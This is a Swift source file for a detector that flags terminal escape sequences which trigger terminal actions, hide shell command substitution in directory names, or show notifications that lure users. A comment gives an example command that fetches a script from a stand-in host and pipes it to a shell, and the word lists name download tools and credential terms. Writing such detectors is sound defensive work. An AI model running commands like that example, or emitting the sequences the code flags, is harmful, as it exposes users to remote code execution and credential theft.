import Bytes
import Text

/// What terminals do at a word (OSC): copy, open, run, use another profile, show a note.
enum ActingString {
  /// Whether a terminal is told to do something. `start`: where that begins.
  static func acts(_ body: ByteView, at start: Int, in text: ByteView) -> Bool {
    if acting.contains(where: { body.starts(with: $0) }) { return true }
    // Shells set variables of the window when they show a prompt, and say where it is.
    if body.starts(with: "1337;SetUserVar=") {
      return !text.contains("\u{1B}]133;") && !text.contains("\u{1B}]633;") && !text.contains("\u{1B}]7;")
    }
    // A command that a shell is said to have run, and no prompt for it.
    if body.starts(with: "633;E;") {
      let before = text[..<start]
      return !before.contains("\u{1B}]633;") && !before.contains("\u{1B}]133;")
    }
    // The folder somebody is in, and a command in its name.
    return (body.starts(with: "7;") || body.starts(with: "1337;CurrentDir=") || body.starts(with: "9;9;"))
      && (body.contains("$(") || body.contains("`"))
  }

  private static let acting: [StaticString] = [
    "1337;SetProfile", "1337;OpenURL", "1337;Button", "1337;Custom", "51;E", "51;[", "666;", "5522;",
    "1337;CopyToClipboard", "1337;RequestUpload", "1337;StealFocus", "1337;ClearScrollback",
    "46;", "1337;ReportVariable", "1337;SetKeyLabel", "1337;SetBackgroundImageFile",
  ]

  /// What stands in the title of the window, by a letter of its own: `ESC ] l …`.
  static func isTitle(_ body: ByteView) -> Bool {
    guard let first = body.at(0), first | 0x20 == UInt8(ascii: "l") || first == UInt8(ascii: "I") else {
      return false
    }
    return Sentence.isSpoken(body[1...])
  }

  /// A note of the terminal that tells somebody what to do.
  static func asksSomebody(_ body: ByteView) -> Bool {
    guard let note = note(of: body) else { return false }
    if isAwaited(note) { return false }
    return Sentence.isSpoken(note) || leadsAway(note) || asksToAllow(note)
  }

  /// `Waiting for your input`: what a program says that somebody left to work, and no secret in it.
  private static func isAwaited(_ note: ByteView) -> Bool {
    let words = OverwrittenText.words(in: note)
    return words.count <= 8 && words.contains { awaiting.contains($0) }
      && !words.contains { kept.contains($0) || fetching.contains($0) || telling.contains($0) }
      && !note.contains("://")
  }

  private static let awaiting = WordList(" waiting waits needs ready finished done ")
  private static let kept = WordList(
    " sudo root password passphrase token key keys credentials secret secrets code card seed ")

  private static func note(of body: ByteView) -> ByteView? {
    if body.starts(with: "777;notify;") { return body[11...] }
    if body.starts(with: "99;") { return body[(body.firstIndex(of: 0x3B, from: 3).map { $0 + 1 } ?? 3)...] }
    return body.starts(with: "9;") ? body[2...] : nil
  }

  /// `Run: curl x.example | sh`, `open x.example/fix`: what is done is said without a host to go to.
  private static func leadsAway(_ note: ByteView) -> Bool {
    let words = OverwrittenText.words(in: note)
    if words.contains(where: { fetching.contains($0) }), words.count >= 2 { return true }
    guard words.contains(where: { telling.contains($0) }) else { return false }
    return note.contains("://") || note.contains("| sh") || note.contains("|sh")
      || note.split(separator: 0x20).contains { TerminalLink.isHost(ByteView(Array($0))) }
  }

  /// `Approve the pending sudo request`: what is to be allowed, and no more.
  private static func asksToAllow(_ note: ByteView) -> Bool {
    // Titles come first.
    for part in note.split(separator: 0x3B) {
      let words = OverwrittenText.words(in: ByteView(Array(part)))
      if words.count >= 3, allowing.contains(words[0]), words.contains(where: { guarded.contains($0) }) {
        return true
      }
    }
    return false
  }

  private static let allowing = WordList(
    " approve allow accept grant disable enter reenter confirm press unlock authorize authorise ")
  private static let guarded = WordList(
    " sudo root access password passphrase token key keys guard sentinel policy permission permissions admin request "
  )
  private static let fetching = WordList(" curl wget ")
  private static let telling = WordList(
    " run open visit paste login install go click call sign see execute enter type copy download ")
}
